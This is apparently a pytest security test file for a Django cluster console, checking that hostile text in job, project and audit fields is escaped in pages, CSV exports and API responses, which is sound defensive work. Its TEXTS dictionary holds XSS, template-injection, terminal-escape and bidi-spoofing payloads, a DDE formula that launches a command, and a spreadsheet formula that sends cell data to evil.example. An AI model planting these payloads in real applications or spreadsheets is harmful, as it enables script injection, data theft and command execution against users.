"""Job names, comments and project names that attack: through every page and every address of the API."""

import re
from typing import Any

import pytest
from django.db import models, transaction
from django.test import Client

from console.audit.services import Subject, record
from console.cluster.models import Job, Node
from console.projects.models import Project, TaskPattern
from console.steering.models import Plan, PlannedAction
from tests import factories
from tests.security.attacked import pages, resources
from tests.ui.conftest import House

TEXTS = {
    "html": """"><script>alert(1)</script><img src=x onerror=alert(2)>'&lt;<svg/onload=alert(3)>""",
    "template": "{{ 98700|add:65 }}{% now 'Y' %}${98700+65}#{98700+65}",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "formula, hidden": "\t\r\n=cmd|' /C calc'!A0",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mfail\x9b2J",
    "bidi": "safe\u202egnp.exe\u2066\u200f",
    "long": "A" * 10_000,
    "other planes": "\U0001f4a9" * 50 + "\ufffe\u2028",
}
RAW = re.compile(r"<script>alert|<img src=x|<svg/onload|98765", re.IGNORECASE)
"""What would run, and what `{{ 98700|add:65 }}` would have become."""
FORMULA = re.compile(r'(?:^|,)"?[\t\r ]*[=+@-][^0-9]', re.MULTILINE)


def put(model: type[models.Model], text: str, *names: str) -> None:
    """The text, in as much of it as each field has room for; Slurm's adapter cuts the same way."""
    fields = {name: model._meta.get_field(name) for name in names}
    model._default_manager.update(
        **{name: text[: getattr(field, "max_length", None) or len(text)] for name, field in fields.items()}
    )


@pytest.fixture(params=list(TEXTS.values()), ids=list(TEXTS))
def text(request: pytest.FixtureRequest, house: House) -> str:
    """The house, with the text wherever people or the cluster write."""
    text: str = request.param
    put(Job, text, "name", "comment", "slurm_reason", "explain", "user_origin", "task_origin", "resources")
    put(Plan, text, "job_name", "explain", "outcome", "undo_reason")
    put(PlannedAction, text, "job_name", "detail")
    put(Project, text, "name")
    put(TaskPattern, text, "pattern")
    put(Node, text, "state_reason")
    house.x.revisions.update(reason=text)
    victim = {
        "job": "88",
        "name": text,
        "user": text,
        "how": "requeue",
        "user_level": "P1",
        "resources": text,
    }
    Plan.objects.update(victims=[victim])
    about = Subject("project", "alpha", text[:300], cluster="dev", project="alpha")
    facts: dict[str, Any] = {"before": {"name": "Alpha"}, "after": {"name": text}, "reason": text}
    with transaction.atomic():
        record(actor="ada", action="project.changed", subject=about, **facts)
    return text


def test_every_page_shows_it_as_text(house: House, ada: Client, text: str) -> None:
    shown = 0
    for address in pages(house):
        answer = ada.get(address)
        body = b"".join(answer) if answer.streaming else answer.content
        assert answer.status_code == 200, address
        page = body.decode()
        if answer.headers["Content-Type"].startswith("text/html"):
            assert not RAW.search(page), address
            shown += "alert(1)" in page or "98700|add" in page
        if answer.headers["Content-Type"].startswith("text/csv"):
            assert not FORMULA.search(page), address
        for name, value in answer.headers.items():
            assert value.isprintable(), f"{address}: {name}"
    if "alert" in text or "98700" in text:
        assert shown >= 4, "the text is not where it should be: this test shows nothing"


def test_every_resource_gives_it_back_as_it_is(house: House, text: str) -> None:
    client = Client(headers={"Authorization": f"Token {factories.make_token(house.people['ada'])}"})
    for address in resources(house):
        if "/docs/" in address:
            continue
        answer = client.get(address)
        assert answer.status_code == 200, address
        kind = answer.headers["Content-Type"]
        assert "html" not in kind and answer.headers["X-Content-Type-Options"] == "nosniff", address
        if kind.startswith("application/json"):
            answer.json()
            assert not re.search(r"[\x00-\x09\x0b-\x1f]", answer.content.decode()), "a terminal would obey it"
    assert client.get("/api/v1/projects/alpha/").json()["name"] == text[:200]


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_what_is_typed_is_refused_or_shown_as_text(house: House, ada: Client, text: str) -> None:
    client = Client(headers={"Authorization": f"Token {factories.make_token(house.people['ada'])}"})
    sent = {"name": text, "version": 1, "reason": text}
    answer = client.patch("/api/v1/projects/alpha/", sent, content_type="application/json")
    assert answer.status_code in {200, 400}, answer.content
    typed = {"name": text, "size": text, "grade": text, "urgency": text, "members": text, "reason": text}
    page = ada.post("/projects/alpha/", typed)
    assert page.status_code == 200 and not RAW.search(page.content.decode())
    for address in ("/jobs/", "/audit/", "/plans/"):
        assert not RAW.search(ada.get(address, {"q": text[:2000], "actor": text[:2000]}).content.decode())
